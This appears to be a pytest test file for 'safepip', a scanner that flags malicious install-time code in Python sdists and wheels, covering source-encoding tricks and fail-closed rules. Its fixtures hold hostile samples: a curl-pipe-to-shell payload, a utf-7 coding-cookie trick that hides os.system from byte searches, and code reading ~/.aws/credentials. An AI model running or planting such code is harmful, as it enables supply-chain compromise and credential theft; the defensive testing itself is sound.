"""Issue 15: install-time source is read exactly as the interpreter and setuptools read it, and
install-time code that cannot be read is high (fail closed). Issue 14: a wheel's scripts are
run-time code, not install-time code."""

from __future__ import annotations

from pathlib import Path

import pytest

from safepip.artifacts.source import SourceDecodeError, decode_source
from safepip.checks.install_hooks import scan_path
from safepip.findings import Finding, Severity
from tests.checks.hostile import make_sdist, make_wheel

PAYLOAD = "import os\nos.system('curl -s http://example.invalid/x | sh')\n"


def _worst(findings: list[Finding], rule: str | None = None) -> Severity | None:
    chosen = [f.severity for f in findings if rule is None or f.rule == rule]
    return max(chosen, default=None)


@pytest.mark.parametrize(
    "data",
    [
        b"\xef\xbb\xbf" + PAYLOAD.encode(),  # a UTF-8 BOM is legal (msal ships one)
        ("# -*- coding: utf-7 -*-\n" + PAYLOAD).encode("utf-7"),  # setuptools honours it
        ("# vim: set fileencoding=latin-1 :\n# caf\xe9\n" + PAYLOAD).encode("latin-1"),
        ("#!/usr/bin/env python\n# coding=cp1252\n# \u20ac\n" + PAYLOAD).encode("cp1252"),
    ],
    ids=["bom", "utf-7", "latin-1", "cp1252-second-line"],
)
def test_setup_py_is_decoded_as_setuptools_decodes_it(tmp_path: Path, data: bytes) -> None:
    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", {"setup.py": data}))
    assert _worst(findings, "hook/unparsable") is None
    assert _worst(findings) is Severity.CRITICAL


def test_utf7_payload_is_invisible_as_utf8() -> None:
    """The differential the cookie creates: the payload's words are not in the raw bytes."""
    data = "# coding: utf-7\nimport os; os.system('id')\n".encode("utf-7")
    hidden = ("# coding: utf-7\n"
              "+AGkAbQBwAG8AcgB0ACAAbwBzADsAIABvAHMALgBzAHkAcwB0AGUAbQAoACcAaQBkACcAKQ-\n")
    assert b"system" not in hidden.encode()
    assert "os.system('id')" in decode_source(hidden.encode())
    assert "os.system('id')" in decode_source(data)


@pytest.mark.parametrize(
    "data",
    [
        b"print 'python 2'\n",
        b"# coding: no-such-codec\nprint('x')\n",
        b"# coding: hex\nprint('x')\n",  # a codec that does not produce text
        b"\xef\xbb\xbf# coding: latin-1\nprint('x')\n",  # BOM and cookie disagree
        b"x = '\xff\xfe'\n",  # not UTF-8 and no cookie
    ],
    ids=["py2", "unknown-codec", "bytes-codec", "bom-cookie-mismatch", "invalid-utf8"],
)
def test_unreadable_install_time_code_is_high(tmp_path: Path, data: bytes) -> None:
    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", {"setup.py": data}))
    assert _worst(findings, "hook/unparsable") is Severity.HIGH


def test_oversized_install_time_module_is_high(tmp_path: Path) -> None:
    big = "from setuptools import setup\n" + "x = 1\n" * ((9 << 20) // 6 + 1)
    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", {"setup.py": big}))
    assert _worst(findings, "hook/unparsable") is Severity.HIGH


@pytest.mark.parametrize(
    "data", [b"# coding: hex\n", b"\xef\xbb\xbf# coding: latin-1\n", b"x = '\xff'\n"]
)
def test_decode_source_raises_only_its_declared_errors(data: bytes) -> None:
    with pytest.raises(SourceDecodeError):
        decode_source(data)


def test_wheel_scripts_are_run_time_not_install_time(tmp_path: Path) -> None:
    """awscli: a wheel's `*.data/scripts` launcher is copied into bin/, never run by pip; it
    and the modules it imports are judged as run-time code."""
    files = {
        "{info}/../demo-1.0.data/scripts/demo": "#!python\nimport demo.cli\ndemo.cli.main()\n",
        "demo/__init__.py": "",
        "demo/cli.py": "import os\nCREDS = os.path.expanduser('~/.aws/credentials')\n"
                       "def main():\n    return open(CREDS).read()\n",
    }
    files = {k.replace("{info}/../", ""): v for k, v in files.items()}
    findings = scan_path(make_wheel(tmp_path, "demo", "1.0", files))
    assert findings, "the run-time pass still reads the scripts and the package"
    assert all("(import time)" in f.message for f in findings)
    assert _worst(findings) is not None and _worst(findings) < Severity.HIGH  # type: ignore[operator]


def test_wheel_python_script_is_scanned_at_run_time(tmp_path: Path) -> None:
    script = "#!/usr/bin/python\n" + PAYLOAD
    files = {"demo-1.0.data/scripts/demo-tool": script, "demo/__init__.py": ""}
    findings = scan_path(make_wheel(tmp_path, "demo", "1.0", files))
    assert [f.location.path for f in findings if f.location] == ["demo-1.0.data/scripts/demo-tool"]
    assert all("(import time)" in f.message for f in findings)
